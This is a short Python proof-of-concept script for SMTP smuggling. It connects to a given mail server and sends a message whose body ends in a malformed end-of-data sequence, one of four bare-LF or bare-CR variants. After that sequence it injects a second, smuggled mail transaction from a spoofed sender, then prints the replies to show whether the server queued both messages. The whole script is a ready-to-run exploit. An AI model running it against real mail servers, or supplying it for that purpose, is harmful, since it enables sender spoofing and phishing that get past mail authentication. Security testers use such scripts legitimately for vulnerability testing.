#!/usr/bin/env python3
"""SMTP smuggling: end-of-data look-alikes (LF.LF, CR.CR, CRLF.LF, LF.CRLF)
followed by a smuggled transaction. Prints every reply line the server
sends; a vulnerable server shows two "queued as" replies.

usage: smuggle.py HOST PORT VARIANT
"""
import socket
import sys

host, port, variant = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ends = {"lf": b"\n.\n", "cr": b"\r.\r", "crlf-lf": b"\r\n.\n", "lf-crlf": b"\n.\r\n"}
s = socket.create_connection((host, port), timeout=10)
payload = (b"EHLO client.test.example\r\nMAIL FROM:<a@test.example>\r\nRCPT TO:<u@mx.test.example>\r\nDATA\r\n")
s.sendall(payload)
s.settimeout(3)
data = b""
try:
    while data.count(b"354") == 0:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
except socket.timeout:
    pass
smuggled = (b"Subject: first\r\n\r\nbody" + ends[variant] +
            b"MAIL FROM:<evil@test.example>\r\nRCPT TO:<u@mx.test.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nevil\r\n.\r\n"
            + b"\r\n.\r\nQUIT\r\n")
s.sendall(smuggled)
try:
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
except socket.timeout:
    pass
sys.stdout.write(data.decode(errors="replace"))
